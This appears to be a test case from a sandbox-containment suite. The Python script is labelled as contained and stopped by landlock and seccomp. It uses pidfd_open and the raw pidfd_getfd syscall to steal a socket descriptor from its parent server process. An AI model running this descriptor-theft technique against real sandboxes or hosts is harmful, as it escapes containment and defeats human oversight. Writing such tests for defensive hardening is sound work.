# attack: takes the socket by which boxes are asked for out of the server
# full: contained
# reduced: contained
# stopped-by: landlock, seccomp
import ctypes
import os
import platform
import stat

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    holder = os.pidfd_open(os.getppid())
    for number in range(3, 32):
        try:
            taken = syscall({"x86_64": 438, "aarch64": 438}, holder, number, 0)
        except OSError as error:
            last = error
        else:
            if stat.S_ISSOCK(os.fstat(taken).st_mode):
                return f"through: the server's socket {number}"
    raise last
